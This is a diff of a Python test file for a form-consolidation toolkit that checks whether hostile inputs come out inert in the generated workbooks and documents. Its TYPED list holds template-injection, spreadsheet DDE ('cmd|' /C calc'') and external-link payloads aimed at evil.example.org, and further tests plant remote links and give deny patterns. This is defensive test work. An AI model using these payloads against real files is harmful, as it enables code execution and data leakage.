@@ -30,18 +30,13 @@ SAVED = datetime(2020, 11, 2, 8, 0)
 
 #: What hostile or unlucky hands type. Each stands in an answer of a task, and must stand in an output as it is.
 TYPED = (
-    "{{7*7}}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
-    '=HYPERLINK("http://evil.example.org","bấm vào đây")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "=1+1", "{=SUM(A1:A9)}",
-    "{% for x in (1,2) %}lặp{% endfor %}",
-    "{%p if x %}", "{# ghi chú #}", "<w:p><w:r><w:t>lọt</w:t></w:r></w:p>", "]]><w:br/>", "R&D <10% & hơn",
-    "&lt;b&gt;", "<script>alert(1)</script>",
-    "http://evil.example.org/x", "mailto:ai@example.org", "file://evil.example.org/x", "\\\\evil.example.org\\x",
-    "external:x.xlsx",
-    "{\\rtf1\\object}", "INCLUDETEXT evil", 'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"',
-    "=IMPORTXML(\"http://evil.example.org\")",
-    "&#x41;", "%s {0} $HOME `id`", "- gạch đầu dòng", "=DAI",
+    "{{7*7}}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", '=HYPERLINK("http://evil.example.org","bấm vào đây")',
+    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "{=SUM(A1:A9)}",
+    "{% for x in (1,2) %}lặp{% endfor %}", "{%p if x %}", "{# ghi chú #}", "<w:p><w:r><w:t>lọt</w:t></w:r></w:p>", "]]><w:br/>",
+    "R&D <10% & hơn", "&lt;b&gt;", "<script>alert(1)</script>", "http://evil.example.org/x", "mailto:ai@example.org",
+    "file://evil.example.org/x", "\\\\evil.example.org\\x", "external:x.xlsx", "{\\rtf1\\object}", "INCLUDETEXT evil",
+    'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"', "=IMPORTXML(\"http://evil.example.org\")", "&#x41;", "%s {0} $HOME `id`",
+    "- gạch đầu dòng", "=DAI",
 )
 #: What follows "=DAI" in the armed files: more than a cell of Excel holds.
 LONG = " lam" * 9000
@@ -79,19 +74,16 @@ _OUTSIDE = ' TargetMode="External"'
 
 
 def armed(content: bytes) -> bytes:
-    """The workbook with a macro, an embedded object, a linked workbook, a linked picture, a hyperlink and a formula
-    with
-    an outside source, as Excel would store them; and with a text that no cell holds."""
+    """The workbook with a macro, an embedded object, a linked workbook, a linked picture, a hyperlink and a formula with an outside
+    source, as Excel would store them; and with a text that no cell holds."""
     with zipfile.ZipFile(io.BytesIO(content)) as package:
         parts = {name: package.read(name).replace(b"=DAI", f"=DAI{LONG}".encode()) for name in package.namelist()}
-    links = "".join(_LINK.format(id=f"evil{number}", kind=kind, target=target, mode=mode) for number,
-        (kind, target, mode) in enumerate((
+    links = "".join(_LINK.format(id=f"evil{number}", kind=kind, target=target, mode=mode) for number, (kind, target, mode) in enumerate((
         ("hyperlink", "http://evil.example.org/bam", _OUTSIDE), ("oleObject", "../embeddings/oleObject1.bin", ""),
         ("package", "../embeddings/evil.xlsx", ""), ("image", "http://evil.example.org/a.png", _OUTSIDE),
         ("attachedTemplate", "http://evil.example.org/a.dotm", _OUTSIDE))))
     rels = "xl/worksheets/_rels/sheet1.xml.rels"
-    held = parts.get(rels, b'<Relationships '
-                           b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
+    held = parts.get(rels, b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
     parts[rels] = held.replace(b"</Relationships>", f"{links}</Relationships>".encode())
     formula = f'<f>HYPERLINK([1]x!A1,"bấm")</f><v>{SHOWN}</v>'
     answer = OpenForm(content).cell(OpenForm(content).rows["X1"], "result").coordinate
@@ -152,15 +144,13 @@ def packages(where: Round) -> dict[str, dict[str, bytes]]:
 
 def formulas(parts: Mapping[str, bytes]) -> list[str]:
     """The formulas of a workbook: in cells, in rules, in lists to choose from, in names."""
-    return [html.unescape(text) for name,
-        part in parts.items() if name.startswith(("xl/worksheets/sheet", "xl/workbook.xml"))
+    return [html.unescape(text) for name, part in parts.items() if name.startswith(("xl/worksheets/sheet", "xl/workbook.xml"))
             for _, text in re.findall(r"<(f|formula[12]?|definedName)\b[^>/]*>(.*?)</\1>", part.decode(), re.DOTALL)]
 
 
 def texts_of(parts: Mapping[str, bytes]) -> str:
     """All the texts of a package, as a program reads them."""
-    return "\n".join("".join(ElementTree.fromstring(part).itertext()) for name,
-        part in parts.items() if name.endswith(".xml"))
+    return "\n".join("".join(ElementTree.fromstring(part).itertext()) for name, part in parts.items() if name.endswith(".xml"))
 
 
 _FORBIDDEN_PARTS = re.compile(r"vba|macro|embed|ole|externalLink|activeX|ctrlProp|customUI|connections|queryTable|\.bin$|\.\.", re.IGNORECASE)
@@ -175,7 +165,7 @@ def test_every_form_is_read_and_no_part_of_an_output_acts(made: tuple[Round, Con
     assert len(done.consolidation.intake.returns) == 12
     for record in done.consolidation.intake.files:
         assert record.typed == record.consolidated + record.listed, record.file
-        assert not {Code.FILE_FAILED, Code.ACCOUNTING_BROKEN} & {each.code for each in record.findings}, record.file
+        assert not {Code.FILE_FAILED, Code.ACCOUNTING_BROKEN} & {found.code for found in record.findings}, record.file
     where, _ = made
     found = packages(where)
     assert {"tong_hop.xlsx", "bao_cao.docx"} <= found.keys()
@@ -192,8 +182,7 @@ def test_formulas_are_the_toolkit_s_own_and_originals_are_not_touched(made: tupl
         for formula in formulas(parts):
             texts = re.findall(r'"((?:[^"]|"")*)"', formula)
             rest = re.sub(r'"(?:[^"]|"")*"', "", formula)
-            assert not re.search(r'["|@]|cmd|evil|HYPERLINK|WEBSERVICE|\[\d|IMPORT|A1:A9|1\+1', rest,
-                re.IGNORECASE), (name, formula)
+            assert not re.search(r'["|@]|cmd|evil|HYPERLINK|WEBSERVICE|\[\d|IMPORT|A1:A9|1\+1', rest, re.IGNORECASE), (name, formula)
             assert len(formula) <= 8192, (name, formula)
             assert max((len(text) for text in texts), default=0) <= 255, (name, formula)
             seen += any("=1+1" in text for text in texts)
@@ -266,8 +255,7 @@ def test_a_run_writes_in_its_folder_alone_and_calls_nobody(few: int, tmp_path: P
     for name in ("noi-lam-viec", "tam", "nha"):
         folders[name].mkdir()
     ky, told = str(folders["ky"]), tmp_path / "told.json"
-    commands = [["demo", ky], ["forms", ky], ["consolidate", ky],
-        ["check", "--round", ky, str(Round(folders["ky"]).plan)]]
+    commands = [["demo", ky], ["forms", ky], ["consolidate", ky], ["check", "--round", ky, str(Round(folders["ky"]).plan)]]
     environment = {**os.environ, "TMPDIR": str(folders["tam"]), "HOME": str(folders["nha"])}
     run = subprocess.run([sys.executable, "-B", "-c", WATCHED, json.dumps(commands), str(told), str(few)],
                          cwd=folders["noi-lam-viec"], env=environment, capture_output=True, text=True, check=False)
